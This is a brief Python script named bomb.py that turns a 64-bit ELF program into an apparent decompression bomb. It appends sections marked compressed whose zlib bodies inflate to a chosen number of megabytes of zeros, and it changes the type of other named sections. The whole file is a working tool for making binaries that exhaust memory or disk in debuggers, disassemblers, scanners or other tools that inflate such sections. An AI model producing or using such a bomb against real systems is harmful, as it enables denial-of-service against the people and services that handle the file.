"""bomb.py OUT PROGRAM NAME=MB...: PROGRAM (64 bits, little-endian) with sections of so many MB of zeros, deflated."""
import struct, sys, zlib

out, program, *parts = sys.argv[1:]
data = bytearray(open(program, 'rb').read())
table, = struct.unpack_from('<Q', data, 40)
count, strings = struct.unpack_from('<HH', data, 60)
HEAD = '<IIQQQQIIQQ'
heads = [list(struct.unpack_from(HEAD, data, table + 64 * i)) for i in range(count)]
names = bytearray(data[heads[strings][4]:heads[strings][4] + heads[strings][5]])
wanted = [part.split('=')[0].encode() for part in parts]
for h in heads:  # the program's own go
    name = bytes(names[h[0]:names.index(0, h[0])])
    if name in wanted:
        h[1] = 8
for name, part in zip(wanted, parts):
    mb = int(part.split('=')[1])
    packer, zeros = zlib.compressobj(1), bytes(1 << 20)
    body = struct.pack('<IIQQ', 1, 0, mb << 20, 1) + b''.join(packer.compress(zeros) for _ in range(mb)) + packer.flush()
    heads.append([len(names), 1, 0x800, 0, len(data), len(body), 0, 0, 1, 0])
    names += name + b'\0'
    data += body
heads[strings][4:6] = len(data), len(names)
data += names
data += bytes(-len(data) % 8)
struct.pack_into('<Q', data, 40, len(data))
struct.pack_into('<H', data, 60, len(heads))
for h in heads:
    data += struct.pack(HEAD, *h)
open(out, 'wb').write(data)
